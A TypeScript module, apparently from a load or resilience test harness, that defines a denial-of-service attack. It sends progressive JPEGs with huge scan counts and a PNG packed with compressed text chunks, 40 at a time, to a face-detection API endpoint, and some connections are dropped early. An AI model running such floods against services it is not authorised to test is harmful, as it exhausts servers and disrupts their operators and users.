import { type Attack, flood } from '../attack.ts';
import { imageFile, multipart, multipartType } from '../multipart.ts';
import { manyScans, manyTexts, scansFor } from '../pictures.ts';

const width = 40;

/** Pictures that cost a decoder seconds to minutes; every third sender leaves at once. */
export const costlyPictures: Attack = {
  name: 'pictures',
  what: `progressive JPEG of 177 kB, 552 kB and 8 MB of scans, PNG of 150 compressed texts, ${width} at a time`,
  async prepare(order) {
    const { projectId, token } = order.target;
    const files = [
      manyScans(scansFor(177_000)),
      manyScans(scansFor(552_000)),
      manyTexts(150, 5_000_000),
      manyScans(scansFor(8_000_000)),
    ];
    return () =>
      flood(order, width, (number) => ({
        path: `/v2/${projectId}/face-detect`,
        headers: { 'x-auth-token': token, 'content-type': multipartType },
        body: multipart([imageFile, 'Content-Type: image/jpeg'], files[number % files.length] ?? Buffer.of()),
        ...(number % 3 === 2 && { leavesMs: 500 }),
      }));
  },
};
